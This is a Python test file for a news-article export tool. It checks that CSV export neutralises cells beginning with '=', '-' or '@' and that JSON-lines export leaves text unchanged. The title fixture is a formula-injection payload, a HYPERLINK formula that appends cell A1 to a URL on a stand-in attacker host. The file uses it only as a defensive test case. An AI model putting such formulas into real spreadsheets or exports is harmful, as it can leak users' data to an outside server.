import csv
import io
import json
from datetime import UTC, datetime

from tidings.engine.maintenance.article_export import ExportFilter, export_articles
from tidings.model.articles.article import Article
from tidings.read.url import article_id
from tidings.store.database.database import Database
from tidings.store.tables.articles.articles import keep_article

NOW = datetime(2026, 1, 2, tzinfo=UTC)
FORMULA = '=HYPERLINK("https://evil.example/"&A1,"ferry")'


def _exported(database: Database, form: str) -> str:
    url = "https://a.example/ferry"
    kept = Article(
        article_id(url), url, "a.example", FORMULA, "-2+3 ferries sail", "", "", None,
        None, NOW, ("Ann",), "en", "", ("@SUM(1)", "harbour"), None, "", 3,
    )  # fmt: skip
    database.write(lambda db: keep_article(db, kept, NOW)).result()
    sink = io.BytesIO()
    export_articles(database, ExportFilter(), form, sink, lambda _: None)
    return sink.getvalue().decode()


def test_no_cell_of_a_csv_file_is_a_formula(database: Database) -> None:
    (row,) = csv.DictReader(io.StringIO(_exported(database, "csv")))
    assert row["title"] == f"'{FORMULA}"
    assert (row["text"], row["tags"]) == ("'-2+3 ferries sail", "'@SUM(1); harbour")
    assert (row["authors"], row["language"]) == ("Ann", "en")


def test_json_lines_keep_every_text_unchanged(database: Database) -> None:
    exported = json.loads(_exported(database, "jsonl"))
    assert (exported["title"], exported["tags"]) == (FORMULA, ["@SUM(1)", "harbour"])
